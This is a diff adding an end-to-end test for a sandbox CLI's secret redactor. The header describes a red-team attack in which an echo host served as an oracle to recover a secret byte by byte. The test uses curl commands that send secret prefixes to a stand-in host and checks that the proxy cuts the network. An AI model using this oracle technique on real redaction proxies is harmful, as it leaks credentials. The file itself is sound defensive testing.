@@ -1,0 +1,71 @@
+/**
+ * Red team, session 12, end to end on native: a job with a secret asked an
+ * echo on another allowed host to end its answers with guesses of the
+ * secret's first bytes; an answer that came back masked said the guess was
+ * right, and 5,248 requests walked a 40-character value whole. Now the first
+ * masked end is the job's last answer: the proxy cuts its network (every
+ * tunnel, every later connection refused), and the result's network line
+ * says why. An end too short to encode 4 of the value's bytes is left as it
+ * is and cuts nothing.
+ */
+import { createServer, type Server } from 'node:https';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { cli, cliAsync, makeHome } from '../../helpers/cli.js';
+import { makeTestCa, type TestCa } from '../../helpers/tls-upstream.js';
+import { nativeReadiness } from '../../unit/providers/native/native-readiness.js';
+
+const readiness = await nativeReadiness();
+const home = makeHome();
+const VALUE = `Wq${process.pid}-kept-from-the-job-whole-or-in-part`;
+let ca: TestCa;
+let server: Server;
+let port = 0;
+let env: Record<string, string>;
+
+beforeAll(async () => {
+  ca = makeTestCa(['api.test', 'echo.test']);
+  // Answers with whatever the query asked for, at the very end of its body: the red team's oracle.
+  server = createServer({ key: ca.key, cert: ca.cert }, (req, res) => {
+    const body = `echo:${decodeURIComponent((req.url ?? '').split('?')[1] ?? '')}`;
+    res.writeHead(200, { 'content-length': Buffer.byteLength(body) });
+    res.end(body);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  port = (server.address() as AddressInfo).port;
+  env = {
+    HEADSPACE_PROVIDER: 'native',
+    HEADSPACE_TEST_RESOLVER_MAP: JSON.stringify({ 'api.test': '127.0.0.1', 'echo.test': '127.0.0.1' }),
+    HEADSPACE_TEST_UPSTREAM_CA: ca.ca,
+    TOKEN: VALUE,
+  };
+});
+afterAll(async () => {
+  await home.cleanup();
+  server?.closeAllConnections();
+  await new Promise((resolve) => server?.close(resolve));
+});
+
+const echo = (guess: string) => `curl -sS https://echo.test:${port}/?${guess}; echo " [curl $?]"`;
+
+describe.runIf(readiness.ready && process.getuid?.() === 0)(
+  `a job probing the redactor on native (needs a ready native host as root: ${readiness.reason})`,
+  () => {
+    it('gets a short guess back as it is, then one masked answer, then no network at all', async () => {
+      expect(cli(home.home, ['create', '--workspace-id', 'probe', '--network', `allow=api.test:${port},echo.test:${port}`], env).code).toBe(0);
+      const script = [echo(VALUE.slice(0, 3)), echo(VALUE.slice(0, 4)), echo('anything'), `curl -sS https://api.test:${port}/?x; echo " [curl $?]"`].join('; ');
+      const ran = await cliAsync(home.home, ['run', '--json', '--secret', `TOKEN@api.test:${port}`, 'probe', 'sh', '-c', script], env);
+      const text = ran.stdout + ran.stderr;
+      const lines = (JSON.parse(ran.stdout) as { evidence: Array<{ excerpt: string }> }).evidence[0]!.excerpt.split('\n');
+      expect(lines[0], text).toBe(`echo:${VALUE.slice(0, 3)} [curl 0]`);
+      expect(lines[1], text).toBe('echo:**** [curl 0]');
+      expect(lines[2], text).toMatch(/403|CONNECT tunnel failed|\[curl [1-9]\d*\]/);
+      expect(lines[2]).not.toContain('echo:anything');
+      expect(lines[3]).not.toContain('echo:');
+      const network = (JSON.parse(ran.stdout) as { key_findings: string[] }).key_findings.find((f) => f.startsWith('network:'));
+      expect(network).toContain("network cut: a response ended with what may be a secret value's first bytes");
+      expect(network).toContain("(any) (network cut: a response ended with what may be a secret value's first bytes) ×2");
+    expect(lines.join('\n')).not.toContain(VALUE.slice(0, 4));
+    });
+  },
+);
